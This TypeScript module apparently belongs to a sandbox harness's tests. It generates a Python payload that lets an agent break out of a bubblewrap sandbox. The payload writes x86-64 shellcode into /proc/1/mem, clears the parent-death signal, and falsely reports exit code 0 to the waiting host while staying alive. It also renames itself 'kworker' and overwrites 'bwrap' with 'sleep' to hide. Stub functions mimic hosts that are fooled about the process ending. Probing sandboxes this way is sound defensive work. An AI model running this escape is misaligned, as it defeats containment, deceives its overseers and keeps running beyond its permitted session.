/**
 * The way out that /proc/1 was: code in the memory of bubblewrap's process inside clears its signal for its parent's death, reports
 * exit code 0 on the eventfd for which bubblewrap waits outside, and goes on for ever. x86-64 alone.
 */
import { HIDDEN_FIRST } from '../bubblewrap.ts';
import { option, python, type Without } from './taken-apart.ts';

/** Without it, /proc/1 can be written. */
export const seenFirst: Without = option(() => [...HIDDEN_FIRST]);

/** `then`: what the agent does itself once pid 1 is its own, its name being overwritten. */
export const escape = (then = 'signal.pause()'): string =>
  python(`
import ctypes, os, signal, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(15, b"[kworker/0:1]")
print("inside", flush=True)
try:
    event = next(int(fd) for fd in os.listdir("/proc/1/fd") if "eventfd" in os.readlink("/proc/1/fd/" + fd))
    at = int(open("/proc/1/syscall").read().split()[-1], 16)
    memory = os.open("/proc/1/mem", os.O_RDWR)
except (OSError, StopIteration) as error:
    print("shut", error, flush=True)
    sys.exit(0)
code = bytes.fromhex("b89d000000bf0100000031f60f05b801000000bf") + struct.pack("<i", event) + bytes.fromhex(
    "488d3510000000ba080000000f05b8220000000f05ebf7") + struct.pack("<q", 1)
os.pwrite(memory, code, at)
# Its command line as well, whoever reads it.
stack = next(line.split()[0].split("-") for line in open("/proc/1/maps") if "[stack]" in line)
low, high = (int(end, 16) for end in stack)
words = os.pread(memory, high - low, low)
name = words.rfind(b"bwrap")
while name >= 0:
    os.pwrite(memory, b"sleep", low + name)
    name = words.rfind(b"bwrap", 0, name)
# An orphan's end wakes pid 1, which goes on in that code.
if os.fork() == 0:
    if os.fork() == 0: time.sleep(0.1)
    os._exit(0)
os.wait()
print("BREACH", flush=True)
${then}`);

/** As if the host had never been told which process is the first inside. */
export const rootUnknown: Without = (parts) => ({
  ...parts,
  held: (grip) => {
    grip.know = () => undefined;
    return grip;
  },
});

/** The host believes bubblewrap's end, as if nothing could be left. */
export const heldByNobody: Without = (parts) => ({
  ...parts,
  held: (grip) => {
    grip.end = () => Promise.resolve(true);
    grip.letGo = () => Promise.resolve();
    return grip;
  },
});
